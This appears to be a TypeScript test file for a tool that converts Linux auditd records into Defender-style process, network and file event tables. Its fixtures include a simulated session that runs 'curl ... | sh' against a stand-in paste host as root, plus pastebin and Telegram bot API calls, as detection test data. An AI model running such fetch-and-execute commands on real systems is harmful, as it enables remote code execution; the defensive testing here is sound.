import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DiagnosticSink } from '../../src/diagnostics.js';
import { readAuditd, type AuditEvent } from '../../src/formats/auditd/index.js';
import { joinArgv } from '../../src/normalize/auditd-processes.js';
import { urlForConnection } from '../../src/normalize/auditd-url.js';
import { auditdUse } from '../../src/normalize/auditd.js';
import { Normalizer } from '../../src/normalize/normalizer.js';
import type { Scalar } from '../../src/table/types.js';
import { collect } from '../formats/collect.js';
import {
  connectEvent,
  eoe,
  execEvent,
  hex,
  proctitle,
  rec,
  sockaddrInet,
  syscall,
} from '../formats/auditd/lines.js';

type Row = Record<string, Scalar>;

function events(lines: readonly string[]): AuditEvent[] {
  return collect((b, ctx) => readAuditd(b, ctx, { host: 'lnx01' }), lines.join('\n') + '\n')
    .events as AuditEvent[];
}

function tables(lines: readonly string[]) {
  const n = new Normalizer(new DiagnosticSink());
  for (const e of events(lines)) n.add(e);
  const t = n.finish();
  const rows = (name: string): Row[] => [...t.get(name)!.rows()];
  return { n, rows };
}

function pick(row: Row, keys: readonly string[]): Row {
  return Object.fromEntries(keys.map((k) => [k, row[k] ?? null]));
}

// A session: sshd (pid 900, logged only by a connect) → bash (1000) → sh (1100) → curl (1200).
const session = [
  ...connectEvent('1603435000.000:10', {
    pid: 900,
    ppid: 1,
    exe: '/usr/sbin/sshd',
    ip: '10.0.0.9',
    port: 514,
  }),
  ...execEvent('1603435001.000:20', {
    pid: 1000,
    ppid: 900,
    exe: '/usr/bin/bash',
    argv: ['-bash'],
  }),
  ...execEvent('1603435002.000:30', {
    pid: 1100,
    ppid: 1000,
    exe: '/usr/bin/dash',
    argv: ['sh', '-c', 'curl -s https://paste.example/raw/x | sh'],
  }),
  ...execEvent('1603435002.010:31', {
    pid: 1200,
    ppid: 1100,
    exe: '/usr/bin/curl',
    argv: ['curl', '-s', 'https://paste.example/raw/x'],
    uid: 0,
  }),
];

describe('auditd → DeviceProcessEvents', () => {
  it('maps execve: image, command line, ids, account, and the parent from its own execve', () => {
    const { rows } = tables(session);
    const cols = [
      'DeviceName',
      'ActionType',
      'FileName',
      'FolderPath',
      'ProcessId',
      'ProcessCommandLine',
      'AccountName',
      'InitiatingProcessFileName',
      'InitiatingProcessId',
      'InitiatingProcessCommandLine',
      'InitiatingProcessParentFileName',
      'ReportId',
    ];
    assert.deepEqual(
      rows('DeviceProcessEvents').map((r) => pick(r, cols)),
      [
        {
          DeviceName: 'lnx01',
          ActionType: 'ProcessCreated',
          FileName: 'bash',
          FolderPath: '/usr/bin/bash',
          ProcessId: 1000,
          ProcessCommandLine: '-bash',
          AccountName: '1000',
          InitiatingProcessFileName: 'sshd',
          InitiatingProcessId: 900,
          InitiatingProcessCommandLine: 'sshd',
          InitiatingProcessParentFileName: '',
          ReportId: 20,
        },
        {
          DeviceName: 'lnx01',
          ActionType: 'ProcessCreated',
          FileName: 'dash',
          FolderPath: '/usr/bin/dash',
          ProcessId: 1100,
          ProcessCommandLine: 'sh -c "curl -s https://paste.example/raw/x | sh"',
          AccountName: '1000',
          InitiatingProcessFileName: 'bash',
          InitiatingProcessId: 1000,
          InitiatingProcessCommandLine: '-bash',
          InitiatingProcessParentFileName: 'sshd',
          ReportId: 30,
        },
        {
          DeviceName: 'lnx01',
          ActionType: 'ProcessCreated',
          FileName: 'curl',
          FolderPath: '/usr/bin/curl',
          ProcessId: 1200,
          ProcessCommandLine: 'curl -s https://paste.example/raw/x',
          AccountName: 'root',
          InitiatingProcessFileName: 'dash',
          InitiatingProcessId: 1100,
          InitiatingProcessCommandLine: 'sh -c "curl -s https://paste.example/raw/x | sh"',
          InitiatingProcessParentFileName: 'bash',
          ReportId: 31,
        },
      ],
    );
    const first = rows('DeviceProcessEvents')[0]!;
    assert.equal(first['Timestamp'], 16034350010000000n);
    assert.deepEqual(
      pick(first['AdditionalFields'] as Row, [
        'AuditSerial',
        'Syscall',
        'Cwd',
        'CommandLineSource',
      ]),
      {
        AuditSerial: 20,
        Syscall: 'execve',
        Cwd: '/home/alice',
        CommandLineSource: 'execve',
      },
    );
  });

  it('never takes the parent from the child’s own SYSCALL (its exe is the new program)', () => {
    const { rows } = tables(
      execEvent('1603435002.010:31', {
        pid: 1200,
        ppid: 77,
        exe: '/usr/bin/curl',
        argv: ['curl', 'x'],
      }),
    );
    const r = rows('DeviceProcessEvents')[0]!;
    assert.deepEqual(pick(r, ['FileName', 'InitiatingProcessFileName', 'InitiatingProcessId']), {
      FileName: 'curl',
      InitiatingProcessFileName: '',
      InitiatingProcessId: 77,
    });
  });

  it('a PID that ran two programs is its older self for a child started in between', () => {
    const { rows } = tables([
      ...execEvent('1603435001.000:1', { pid: 50, ppid: 1, exe: '/usr/bin/bash', argv: ['bash'] }),
      ...execEvent('1603435002.000:2', { pid: 51, ppid: 50, exe: '/usr/bin/id', argv: ['id'] }),
      ...execEvent('1603435003.000:3', {
        pid: 50,
        ppid: 1,
        exe: '/usr/bin/python3',
        argv: ['python3', 'x.py'],
      }),
      ...execEvent('1603435004.000:4', {
        pid: 52,
        ppid: 50,
        exe: '/usr/bin/curl',
        argv: ['curl', 'y'],
      }),
    ]);
    assert.deepEqual(
      rows('DeviceProcessEvents')
        .filter((r) => r['ProcessId'] !== 50)
        .map((r) => [r['FileName'], r['InitiatingProcessFileName']]),
      [
        ['id', 'bash'],
        ['curl', 'python3'],
      ],
    );
  });

  it('falls back to PROCTITLE for the command line and says so', () => {
    const T = '1603435002.000:5';
    const { rows } = tables([
      syscall(T, { pid: 5, ppid: 1, comm: 'wget', exe: '/usr/bin/wget' }),
      proctitle(T, ['wget', '-q', 'https://a.example/x y']),
      eoe(T),
    ]);
    const r = rows('DeviceProcessEvents')[0]!;
    assert.equal(r['ProcessCommandLine'], 'wget -q "https://a.example/x y"');
    assert.equal((r['AdditionalFields'] as Row)['CommandLineSource'], 'proctitle');
  });
});

describe('auditd → DeviceNetworkEvents', () => {
  const curl = execEvent('1603435002.000:40', {
    pid: 1300,
    ppid: 1000,
    exe: '/usr/bin/curl',
    argv: [
      'curl',
      '-s',
      '-o',
      '/tmp/x',
      'https://raw.githubusercontent.com/a/b/main/c',
      'http://10.9.9.9:8080/',
    ],
  });
  // [what, connect, expected columns]
  // prettier-ignore
  const cases: [string, Parameters<typeof connectEvent>[1], Row][] = [
    ['a connection on the URL’s port takes its host', { pid: 1300, ppid: 1000, exe: '/usr/bin/curl', ip: '185.199.108.133', port: 443 },
      { ActionType: 'ConnectionSuccess', RemoteIP: '185.199.108.133', RemotePort: 443, RemoteUrl: 'raw.githubusercontent.com', RemoteIPType: 'Public', Protocol: 'Unknown', InitiatingProcessFileName: 'curl', InitiatingProcessParentFileName: 'bash' }],
    ['EINPROGRESS is a request on a TCP socket, not a failure', { pid: 1300, ppid: 1000, exe: '/usr/bin/curl', ip: '185.199.108.133', port: 443, success: 'no', exit: -115 },
      { ActionType: 'ConnectionRequest', RemoteIP: '185.199.108.133', RemotePort: 443, RemoteUrl: 'raw.githubusercontent.com', RemoteIPType: 'Public', Protocol: 'Tcp', InitiatingProcessFileName: 'curl', InitiatingProcessParentFileName: 'bash' }],
    ['a refused connection failed', { pid: 1300, ppid: 1000, exe: '/usr/bin/curl', ip: '185.199.108.133', port: 443, success: 'no', exit: -111 },
      { ActionType: 'ConnectionFailed', RemoteIP: '185.199.108.133', RemotePort: 443, RemoteUrl: 'raw.githubusercontent.com', RemoteIPType: 'Public', Protocol: 'Unknown', InitiatingProcessFileName: 'curl', InitiatingProcessParentFileName: 'bash' }],
    ['the resolver stub on port 53 takes no name', { pid: 1300, ppid: 1000, exe: '/usr/bin/curl', ip: '127.0.0.53', port: 53 },
      { ActionType: 'ConnectionSuccess', RemoteIP: '127.0.0.53', RemotePort: 53, RemoteUrl: '', RemoteIPType: 'Loopback', Protocol: 'Unknown', InitiatingProcessFileName: 'curl', InitiatingProcessParentFileName: 'bash' }],
    ['an address URL names only its own address', { pid: 1300, ppid: 1000, exe: '/usr/bin/curl', ip: '10.9.9.10', port: 8080 },
      { ActionType: 'ConnectionSuccess', RemoteIP: '10.9.9.10', RemotePort: 8080, RemoteUrl: '', RemoteIPType: 'Private', Protocol: 'Unknown', InitiatingProcessFileName: 'curl', InitiatingProcessParentFileName: 'bash' }],
  ];
  for (const [what, connect, expected] of cases) {
    it(what, () => {
      const { rows } = tables([
        ...session.slice(4, 10),
        ...curl,
        ...connectEvent('1603435002.100:41', connect),
      ]);
      const r = rows('DeviceNetworkEvents')[0]!;
      assert.deepEqual(pick(r, Object.keys(expected)), expected);
      assert.equal(
        r['InitiatingProcessCommandLine'],
        'curl -s -o /tmp/x https://raw.githubusercontent.com/a/b/main/c http://10.9.9.9:8080/',
      );
    });
  }

  it('an IPv4-mapped IPv6 address is written as IPv4', () => {
    const T = '1603435002.100:42';
    const b = Buffer.alloc(28);
    b.writeUInt16LE(10, 0);
    b.writeUInt16BE(443, 2);
    Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 149, 154, 167, 220]).copy(b, 8);
    const { rows } = tables([
      syscall(T, { syscall: 42, pid: 7, ppid: 1, comm: 'python3', exe: '/usr/bin/python3.10' }),
      rec('SOCKADDR', T, `saddr=${hex(b)}`),
      proctitle(T, ['python3', '-c', "urlopen('https://api.telegram.org/bot1:A/getMe')"]),
      eoe(T),
    ]);
    assert.deepEqual(
      pick(rows('DeviceNetworkEvents')[0]!, ['RemoteIP', 'RemoteUrl', 'InitiatingProcessFileName']),
      {
        RemoteIP: '149.154.167.220',
        RemoteUrl: 'api.telegram.org',
        InitiatingProcessFileName: 'python3.10',
      },
    );
  });
});

describe('auditd → DeviceFileEvents and what no table takes', () => {
  it('a file created by openat, its relative name joined to the cwd', () => {
    const T = '1603435003.000:60';
    const { rows } = tables([
      ...execEvent('1603435002.000:59', {
        pid: 8,
        ppid: 1,
        exe: '/usr/bin/curl',
        argv: ['curl', '-o', 'p.txt', 'https://a.example/'],
      }),
      syscall(T, { syscall: 257, pid: 8, ppid: 1, comm: 'curl', exe: '/usr/bin/curl' }),
      rec('CWD', T, 'cwd="/tmp"'),
      rec('PATH', T, 'item=0 name="/tmp" nametype=PARENT'),
      rec('PATH', T, `item=1 name=${hex('p.txt')} nametype=CREATE`),
      eoe(T),
    ]);
    assert.deepEqual(
      rows('DeviceFileEvents').map((r) =>
        pick(r, [
          'ActionType',
          'FileName',
          'FolderPath',
          'InitiatingProcessFileName',
          'InitiatingProcessCommandLine',
        ]),
      ),
      [
        {
          ActionType: 'FileCreated',
          FileName: 'p.txt',
          FolderPath: '/tmp/p.txt',
          InitiatingProcessFileName: 'curl',
          InitiatingProcessCommandLine: 'curl -o p.txt https://a.example/',
        },
      ],
    );
  });

  // [what, lines, counted as]
  // prettier-ignore
  const ignored: [string, string[], string][] = [
    ['a connect to a UNIX socket', [syscall('9.000:1', { syscall: 42, pid: 1, ppid: 0, comm: 'x', exe: '/x' }), rec('SOCKADDR', '9.000:1', 'saddr=01002F72756E2F78'), eoe('9.000:1')], 'auditd connect (unix)'],
    ['a failed execve', [syscall('9.000:2', { success: 'no', exit: -2, pid: 1, ppid: 0, comm: 'x', exe: '/x' }), eoe('9.000:2')], 'auditd execve (failed)'],
    ['an open that created nothing', [syscall('9.000:3', { syscall: 257, pid: 1, ppid: 0, comm: 'x', exe: '/x' }), rec('PATH', '9.000:3', 'item=0 name="/etc/hosts" nametype=NORMAL'), eoe('9.000:3')], 'auditd openat'],
    ['a user-space message', [rec('USER_LOGIN', '9.000:4', "pid=1 uid=0 msg='op=login res=success'")], 'auditd USER_LOGIN'],
  ];
  for (const [what, lines, kind] of ignored) {
    it(`${what} is counted as ${kind}`, () => {
      const e = events(lines);
      assert.deepEqual(auditdUse(e[0]!), { ignored: kind });
      const { n } = tables(lines);
      assert.equal(n.stats.ignored.get(kind), 1);
      assert.equal(n.stats.kept, 0);
    });
  }
});

describe('auditd helpers', () => {
  // [command line, ip, port, host or undefined]
  // prettier-ignore
  const urls: [string, string, number, string | undefined][] = [
    ['curl https://pastebin.com/raw/x', '104.20.67.143', 443, 'pastebin.com'],
    ['curl https://pastebin.com/raw/x', '104.20.67.143', 80, undefined],
    ['curl http://a.example/ https://b.example/', '1.1.1.1', 443, 'b.example'],
    ['curl https://a.example:8443/x', '1.1.1.1', 8443, 'a.example'],
    ['curl a.example/x', '1.1.1.1', 80, 'a.example'],
    ['wget -q http://203.0.113.9/x', '203.0.113.9', 80, '203.0.113.9'],
    ['wget -q http://203.0.113.9/x', '203.0.113.8', 80, undefined],
    ['curl -x http://proxy.corp:3128 https://a.example/', '10.0.0.1', 3128, undefined],
    ['ls -la', '1.1.1.1', 443, undefined],
  ];
  for (const [cmd, ip, port, host] of urls)
    it(`${cmd} → ${ip}:${port} is ${host ?? 'unnamed'}`, () =>
      assert.equal(urlForConnection(cmd, ip, port)?.host, host));

  // prettier-ignore
  const argvs: [string[], string][] = [
    [['curl', '-s', 'x'], 'curl -s x'],
    [['sh', '-c', 'a | b'], 'sh -c "a | b"'],
    [['echo', 'say "hi"'], 'echo "say \\"hi\\""'],
    [['printf', ''], 'printf ""'],
  ];
  for (const [argv, text] of argvs)
    it(`joins ${JSON.stringify(argv)}`, () => assert.equal(joinArgv(argv), text));

  it('sockaddr builder and reader agree on a port above 32767', () => {
    const e = events([
      syscall('9.000:9', { syscall: 42, pid: 1, ppid: 0, comm: 'x', exe: '/x' }),
      sockaddrInet('9.000:9', '8.8.8.8', 40000),
      eoe('9.000:9'),
    ]);
    assert.deepEqual(e[0]!.sockaddr, { family: 'inet', address: '8.8.8.8', port: 40000 });
  });
});
